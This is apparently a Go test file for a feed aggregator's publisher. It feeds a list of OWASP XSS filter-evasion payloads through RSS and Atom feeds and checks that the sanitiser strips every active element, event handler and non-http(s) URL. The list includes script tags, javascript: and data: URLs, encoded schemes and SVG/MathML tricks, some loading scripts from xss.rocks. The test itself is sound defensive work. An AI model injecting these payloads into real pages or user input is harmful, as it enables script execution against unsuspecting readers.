package publisher_test

import (
	"context"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/pressfeed/pressfeed/fetcher"
	"github.com/pressfeed/pressfeed/publisher"
	"github.com/pressfeed/pressfeed/store"
)

// xssVectors are filter-evasion vectors from the OWASP XSS cheat sheet
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
// grouped by the kind of trick.
var xssVectors = []struct{ name, html string }{
	{"script", `<script>alert('XSS')</script>`},
	{"script src", `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`},
	{"script unclosed", `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`},
	{"script nested brackets", `<<SCRIPT>alert("XSS");//\<</SCRIPT>`},
	{"malformed img", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`},
	{"img javascript", `<IMG SRC="javascript:alert('XSS');">`},
	{"img mixed case", `<IMG SRC=JaVaScRiPt:alert('XSS')>`},
	{"img decimal entities", `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`},
	{"img padded decimal entities", `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`},
	{"img hex entities", `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`},
	{"img embedded tab", `<IMG SRC="jav&#x09;ascript:alert('XSS');">`},
	{"img embedded newline", `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`},
	{"img leading spaces and meta chars", `<IMG SRC=" &#14;  javascript:alert('XSS');">`},
	{"a javascript", `<a href="JAVASCRIPT:alert(1)">lien ket</a>`},
	{"a entity-encoded javascript", `<a href="&#106;avascript&#58;alert(1)">lien ket</a>`},
	{"a vbscript", `<a href="vbscript:msgbox(1)">lien ket</a>`},
	{"a data", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien ket</a>`},
	{"img data svg", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`},
	{"img onerror", `<img src=x onerror=alert(1)>`},
	{"event handler, odd tag", `<xss onmouseover="alert(1)">di chuot</xss>`},
	{"body onload", `<BODY ONLOAD=alert('XSS')>`},
	{"svg onload", `<svg/onload=alert('XSS')>`},
	{"svg script", `<svg><script>alert(1)</script></svg>`},
	{"svg a xlink", `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`},
	{"math href", `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK</maction></math>`},
	{"math style mutation", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`},
	{"iframe", `<iframe src="javascript:alert('XSS');"></iframe>`},
	{"iframe srcdoc", `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`},
	{"object", `<object type="text/x-scriptlet" data="http://xss.rocks/scriptlet.html"></object>`},
	{"embed", `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">`},
	{"form", `<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">gui</button><input type="submit"></form>`},
	{"meta refresh", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`},
	{"meta refresh data", `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`},
	{"style element", `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`},
	{"style attribute", `<DIV STYLE="background-image: url(javascript:alert('XSS'))">khoi</DIV>`},
	{"style expression", `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`},
	{"link stylesheet", `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`},
	{"base href", `<BASE HREF="javascript:alert('XSS');//">`},
	{"table background", `<TABLE BACKGROUND="javascript:alert('XSS')"><TR><TD>o</TD></TR></TABLE>`},
	{"comment conditional", `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`},
	{"cdata-like", `<![CDATA[<script>alert(1)</script>]]>`},
}

// hostileFeeds returns an RSS feed carrying every vector in its items'
// HTML and titles, and an Atom feed carrying them as type="html" content.
func hostileFeeds() (rss, atom string) {
	var r, a strings.Builder
	r.WriteString(`<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Báo độc</title><link>https://doc.example/</link><description>d</description>`)
	a.WriteString(`<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Báo độc Atom</title><id>urn:doc</id><updated>2025-06-01T08:00:00+07:00</updated>`)
	for i, v := range xssVectors {
		body := fmt.Sprintf("<p>Đoạn an toàn số %d <b>vẫn còn</b>.</p>%s", i, v.html)
		date := time.Date(2025, 6, 1, 8, 0, 0, 0, time.FixedZone("ICT", 7*3600)).Add(-time.Duration(i) * time.Minute)
		link := fmt.Sprintf("https://doc.example/bai-%d.html", i)
		if i%5 == 0 {
			link = "javascript:alert(1)" // a hostile link is dropped, not published
		}
		fmt.Fprintf(&r, "<item><title>RSS bài %d %s</title><guid>r%d</guid><link>%s</link><pubDate>%s</pubDate><description>%s</description></item>",
			i, html.EscapeString(v.html), i, html.EscapeString(link), date.Format(time.RFC1123Z), html.EscapeString(body))
		fmt.Fprintf(&a, `<entry><title type="html">%s</title><id>urn:doc:%d</id><link href="https://doc.example/atom-%d.html"/><updated>%s</updated><content type="html">%s</content></entry>`,
			html.EscapeString(fmt.Sprintf("Atom bài %d %s", i, v.html)), i, i, date.Format(time.RFC3339), html.EscapeString(body))
	}
	r.WriteString(`</channel></rss>`)
	a.WriteString(`</feed>`)
	return r.String(), a.String()
}

// TestXSSVectors pushes the vectors through the whole path (HTTP fetch,
// parse, sanitise, store, render) and reads every format as a reader would:
// XML or JSON decoded, then the HTML parsed. No element, attribute or URL
// that can run code survives; the harmless text next to each vector does.
func TestXSSVectors(t *testing.T) {
	rssDoc, atomDoc := hostileFeeds()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/rss":
			w.Header().Set("Content-Type", "application/rss+xml")
			fmt.Fprint(w, rssDoc)
		case "/atom":
			w.Header().Set("Content-Type", "application/atom+xml")
			fmt.Fprint(w, atomDoc)
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()

	db, err := store.Open(filepath.Join(t.TempDir(), "pressfeed.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	feeds := []fetcher.Feed{{Name: "doc-rss", URL: srv.URL + "/rss"}, {Name: "doc-atom", URL: srv.URL + "/atom"}}
	p := fetcher.NewPoller(db, fetcher.Options{Feeds: feeds, AllowNetworks: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}})
	err = p.Once(context.Background(), nil, func(r fetcher.Report) {
		if r.Err != nil || r.Result.Added != len(xssVectors) {
			t.Errorf("fetch %s: %d added, %v; want %d", r.Feed, r.Result.Added, r.Err, len(xssVectors))
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	h, err := publisher.NewHandler(db, publisher.Options{
		Feeds: []publisher.Feed{{Name: "doc-rss", URL: srv.URL + "/rss"}, {Name: "doc-atom", URL: srv.URL + "/atom"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	want := 2 * len(xssVectors)
	for _, ext := range []string{".rss", ".atom", ".json"} {
		t.Run(ext, func(t *testing.T) {
			w := httptest.NewRecorder()
			h.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/feeds/all"+ext+"?limit=1000", nil))
			if w.Code != http.StatusOK {
				t.Fatalf("%d %s", w.Code, w.Body)
			}
			items := readerView(t, ext, w.Body.Bytes())
			if len(items) != want {
				t.Fatalf("%d items, want %d", len(items), want)
			}
			safe := make(map[string]bool)
			for _, it := range items {
				checkPlain(t, "title", it.title)
				checkLink(t, it.link)
				text := checkHTML(t, it.title, it.html)
				for i := range xssVectors {
					if strings.Contains(text, fmt.Sprintf("Đoạn an toàn số %d vẫn còn.", i)) {
						safe[fmt.Sprint(i, it.title[:3])] = true
					}
				}
			}
			if len(safe) != want {
				t.Errorf("harmless text survived in %d items, want %d", len(safe), want)
			}
		})
	}
}

type readerItem struct{ title, link, html string }

// readerView decodes a document as a reader does: XML or JSON unescaped.
func readerView(t *testing.T, ext string, body []byte) []readerItem {
	t.Helper()
	var out []readerItem
	switch ext {
	case ".rss":
		var doc struct {
			Items []struct {
				Title       string `xml:"title"`
				Link        string `xml:"link"`
				Description string `xml:"description"`
			} `xml:"channel>item"`
		}
		if err := xml.Unmarshal(body, &doc); err != nil {
			t.Fatal(err)
		}
		for _, it := range doc.Items {
			out = append(out, readerItem{it.Title, it.Link, it.Description})
		}
	case ".atom":
		var doc struct {
			Entries []struct {
				Title string `xml:"title"`
				Link  []struct {
					Href string `xml:"href,attr"`
				} `xml:"link"`
				Content struct {
					Type string `xml:"type,attr"`
					Text string `xml:",chardata"`
				} `xml:"content"`
			} `xml:"entry"`
		}
		if err := xml.Unmarshal(body, &doc); err != nil {
			t.Fatal(err)
		}
		for _, e := range doc.Entries {
			it := readerItem{title: e.Title, html: e.Content.Text}
			if e.Content.Type != "html" {
				t.Errorf("atom content type %q, want html", e.Content.Type)
			}
			for _, l := range e.Link {
				it.link = l.Href
			}
			out = append(out, it)
		}
	default:
		var doc struct {
			Items []struct {
				Title       string `json:"title"`
				URL         string `json:"url"`
				ContentHTML string `json:"content_html"`
				Summary     string `json:"summary"`
			} `json:"items"`
		}
		if err := json.Unmarshal(body, &doc); err != nil {
			t.Fatal(err)
		}
		for _, it := range doc.Items {
			checkPlain(t, "summary", it.Summary)
			out = append(out, readerItem{it.Title, it.URL, it.ContentHTML})
		}
	}
	return out
}

// checkPlain fails when a plain-text field holds markup a reader that
// renders titles as HTML would act on.
func checkPlain(t *testing.T, field, s string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(s))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		if n.Type == html.ElementNode && !map[string]bool{"html": true, "head": true, "body": true}[n.Data] {
			t.Errorf("%s %q holds an element <%s>", field, s, n.Data)
		}
	}
}

func checkLink(t *testing.T, link string) {
	t.Helper()
	if link != "" && !strings.HasPrefix(link, "https://") && !strings.HasPrefix(link, "http://") {
		t.Errorf("link %q is not http(s)", link)
	}
}

// active are elements that run code, load content or change the page.
var active = map[string]bool{
	"script": true, "iframe": true, "frame": true, "frameset": true, "object": true, "embed": true, "applet": true,
	"form": true, "input": true, "button": true, "meta": true, "style": true, "link": true, "base": true,
	"svg": true, "math": true, "body": false, "template": true, "noscript": true, "xss": true,
}

// urlAttrs are attributes whose value a browser loads or navigates to.
var urlAttrs = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true, "data": true, "background": true,
	"poster": true, "srcset": true, "xlink:href": true, "cite": true, "longdesc": true, "lowsrc": true, "dynsrc": true,
}

// checkHTML parses an item's HTML as a browser would and fails on anything
// active; it returns the text.
func checkHTML(t *testing.T, title, s string) string {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(s), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	visit := func(n *html.Node) {
		switch n.Type {
		case html.TextNode:
			text.WriteString(n.Data)
		case html.ElementNode:
			if active[n.Data] {
				t.Errorf("%.40s: <%s> survives in %q", title, n.Data, s)
			}
			for _, a := range n.Attr {
				k := strings.ToLower(a.Key)
				if a.Namespace != "" {
					k = a.Namespace + ":" + k
				}
				v := strings.Map(func(r rune) rune {
					if r <= ' ' {
						return -1
					}
					return r
				}, strings.ToLower(a.Val))
				switch {
				case strings.HasPrefix(k, "on"), k == "style", k == "srcdoc", k == "http-equiv":
					t.Errorf("%.40s: attribute %s=%q survives", title, a.Key, a.Val)
				case urlAttrs[k] && !strings.HasPrefix(v, "https:") && !strings.HasPrefix(v, "http:"):
					t.Errorf("%.40s: %s=%q is not an http(s) URL", title, a.Key, a.Val)
				}
			}
		}
	}
	for _, top := range nodes { // ParseFragment's nodes, then everything below them
		visit(top)
		for n := range top.Descendants() {
			visit(n)
		}
	}
	return strings.Join(strings.Fields(text.String()), " ")
}
